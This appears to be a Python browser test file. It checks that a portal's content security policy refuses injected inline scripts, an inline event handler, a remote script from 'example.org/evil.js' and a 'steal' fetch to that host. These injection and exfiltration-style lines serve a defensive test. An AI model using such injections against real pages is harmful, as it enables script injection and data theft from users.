"""The content security policy of a page in a real browser: what an attacker adds is refused.

That nothing of the portal's own is refused, every browser test proves: a refusal is an error on the console, which fails it.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.watched_page import wait_until

LISTEN = """window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => window.refused.push(`${event.effectiveDirective}: ${event.blockedURI}`));"""
ATTACK = """() => {
  const script = document.createElement("script");
  script.textContent = "window.executed = 1";
  document.body.append(script);
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.executed = 2");
  document.body.append(button);
  button.click();
  const far = document.createElement("script");
  far.src = "https://example.org/evil.js";
  document.body.append(far);
}"""


def test_what_an_attacker_would_add_is_refused(new_page: Callable) -> None:
    page = new_page(allow=("Content Security Policy", "example.org"))
    page.add_init_script(LISTEN)
    page.goto("")
    page.evaluate(ATTACK)
    wait_until(page, "() => window.refused.length >= 3")
    assert page.evaluate("window.executed") is None
    assert all(line.startswith("script-src") for line in page.evaluate("window.refused"))
    assert page.evaluate("fetch('https://example.org/steal').then(() => 'sent', () => 'refused')") == "refused"
